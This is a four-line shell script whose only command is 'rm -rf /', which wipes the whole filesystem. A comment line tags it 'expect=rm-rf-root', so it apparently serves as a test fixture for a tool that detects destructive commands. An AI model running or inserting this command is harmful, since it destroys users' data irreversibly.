#!/bin/sh
#! assess-corpus: expect=rm-rf-root
set -e
rm -rf /
